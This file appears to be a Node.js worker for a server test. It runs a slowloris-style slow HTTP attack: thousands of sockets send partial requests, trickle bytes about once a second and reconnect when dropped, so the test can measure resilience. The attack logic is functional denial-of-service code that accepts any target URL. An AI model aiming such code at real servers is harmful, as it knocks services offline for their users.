// The attacker of slow_attack.test.mjs, run in a worker thread so that its
// thousands of sockets do not slow the event loop that times the normal
// client.  workerData: {url, addresses: [...], perAddress, start, drip,
// reconnectMs}.  Each address holds perAddress connections that send
// `start`, then `drip` every second or so; a connection the server drops
// is replaced after reconnectMs (as slowhttptest does).  Message 'stop'
// ends the attack and posts back {opened, connected}: connections opened in
// all, and the most connected at once (sampled every 250 ms).
import { parentPort, workerData } from 'node:worker_threads';
import net from 'node:net';

const { url, addresses, perAddress, start, drip, reconnectMs } = workerData;
const { hostname, port } = new URL(url);
const socks = new Set();
let stopped = false, opened = 0;

function open(localAddress) {
  if (stopped) return;
  const s = net.connect({ host: hostname, port: Number(port), localAddress });
  socks.add(s);
  opened++;
  let timer = null;
  s.setNoDelay(true);
  s.on('connect', () => {
    s.write(start);
    timer = setInterval(() => s.write(drip), 1000 + Math.random() * 500);
  });
  s.on('data', () => {});
  s.on('error', () => {});
  s.on('close', () => {
    clearInterval(timer);
    socks.delete(s);
    if (!stopped) setTimeout(() => open(localAddress), reconnectMs);
  });
}

for (const a of addresses) for (let i = 0; i < perAddress; i++) open(a);
let most = 0;
const sampler = setInterval(() => {
  let n = 0;
  for (const s of socks) if (s.readyState === 'open') n++;
  most = Math.max(most, n);
}, 250);

parentPort.on('message', (m) => {
  if (m !== 'stop') return;
  stopped = true;
  clearInterval(sampler);
  for (const s of socks) s.destroy();
  parentPort.postMessage({ opened, connected: most });
  parentPort.close();
});
